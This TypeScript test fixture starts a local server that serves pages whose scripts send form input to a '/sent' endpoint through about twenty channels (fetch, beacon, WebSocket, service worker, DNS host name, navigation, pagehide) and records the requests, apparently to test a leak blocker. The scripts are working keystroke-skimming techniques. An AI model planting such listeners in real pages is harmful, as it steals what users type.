/**
 * Pages that send what is typed into them, each page in a different way, and the server that
 * records their requests.
 */
import { createHash } from 'node:crypto';
import { createServer, type IncomingMessage } from 'node:http';
import { text } from 'node:stream/consumers';
import { listen } from '../../local-aws.ts';
import { fields, page } from '../zoo/zoo-form.ts';
import { stopOf } from '../target/stop-server.ts';

const typed = `encodeURIComponent([...document.querySelectorAll('input')].map((one) => one.value).join(' '))`;
const onInput = (script: string) =>
  `document.addEventListener('input', () => { const typed = ${typed}; ${script} });`;

/** Scripts that send the typed text to `/sent`. The key of each script names its way of sending. */
export const sendingScripts: Readonly<Record<string, string>> = {
  fetch: onInput(`fetch('/sent?' + typed, { method: 'POST', body: typed, keepalive: true });`),
  beacon: onInput(`navigator.sendBeacon('/sent?' + typed, typed);`),
  image: onInput(`new Image().src = '/sent?' + typed;`),
  script: onInput(
    `document.head.append(Object.assign(document.createElement('script'), { src: '/sent?' + typed }));`,
  ),
  style: onInput(
    `document.head.append(Object.assign(document.createElement('style'), { textContent: 'body { background: url("/sent?' + typed + '") }' }));`,
  ),
  'web socket': onInput(`new WebSocket('ws://' + location.host + '/sent?' + typed);`),
  'open web socket': `const socket = new WebSocket('ws://' + location.host + '/open'); ${onInput('if (socket.readyState === 1) socket.send(typed);')}`,
  'event source': onInput(`new EventSource('/sent?' + typed);`),
  'host name': onInput(
    `fetch('http://' + typed.replace(/[^a-z]/gi, '').slice(0, 60) + '.example/sent');`,
  ),
  popup: onInput(`window.open('/sent?' + typed);`),
  frame: onInput(
    `document.body.append(Object.assign(document.createElement('iframe'), { src: '/sent?' + typed }));`,
  ),
  prefetch: onInput(
    `document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: '/sent?' + typed }));`,
  ),
  'service worker': `navigator.serviceWorker?.register('/worker.js'); ${onInput(`navigator.serviceWorker?.ready.then((one) => one.active.postMessage(typed));`)}`,
  worker: `const worker = new Worker(URL.createObjectURL(new Blob(["onmessage = ({ data }) => fetch(data)"]))); ${onInput(`worker.postMessage(location.origin + '/sent?' + typed);`)}`,
  'submit on change': `document.addEventListener('change', () => document.forms[0].submit());`,
  'navigation on blur': `document.addEventListener('focusout', () => { location.href = '/sent?' + ${typed}; });`,
  'reload with the values': `document.addEventListener('change', () => { history.replaceState(null, '', '/sent?' + ${typed}); location.reload(); });`,
  'late timer': onInput(`setTimeout(() => fetch('/sent?' + typed), 200);`),
  'page that is left': `addEventListener('pagehide', () => navigator.sendBeacon('/sent?' + ${typed})); addEventListener('visibilitychange', () => navigator.sendBeacon('/sent?' + ${typed}));`,
};

const pages = new Map(
  Object.entries(sendingScripts).map(([name, script]) => [
    `/${name.replaceAll(' ', '-')}`,
    page(`${fields}<button>Next</button>`, script),
  ]),
);

export interface SendingServer {
  url: (name: string) => string;
  /** The recorded requests. Requests that load the pages are left out. */
  sent: string[];
  stop: () => Promise<void>;
}

export async function startSendingServer(): Promise<SendingServer> {
  const sent: string[] = [];
  const server = createServer((request, response) => {
    const { method = '', url = '' } = request;
    const html = method === 'GET' ? pages.get(url) : undefined;
    if (url === '/worker.js') {
      response.setHeader('content-type', 'text/javascript');
      response.end(`addEventListener('message', ({ data }) => fetch('/sent?' + data))`);
    } else if (html !== undefined) {
      response.setHeader('content-type', 'text/html; charset=utf-8').end(html);
    } else if (url !== '/favicon.ico') {
      void text(request).then((body) => sent.push(`${method} ${url} ${body}`));
      response.end('<!doctype html>taken');
    } else response.end();
  });
  server.on('upgrade', (request: IncomingMessage, socket) => {
    if (request.url !== '/open') sent.push(`${request.method} ${request.url}`);
    const key = request.headers['sec-websocket-key'] ?? '';
    socket
      .on('error', () => undefined)
      .on('data', (data: Buffer) => sent.push(`socket ${data.length}`));
    socket.write(
      `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accepted(key)}\r\n\r\n`,
    );
  });
  const stop = stopOf(server);
  const endpoint = await listen(server);
  return {
    url: (name) => `${endpoint}/${name.replaceAll(' ', '-')}`,
    sent,
    stop,
  };
}

function accepted(key: string): string {
  return createHash('sha1').update(`${key}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`).digest('base64');
}
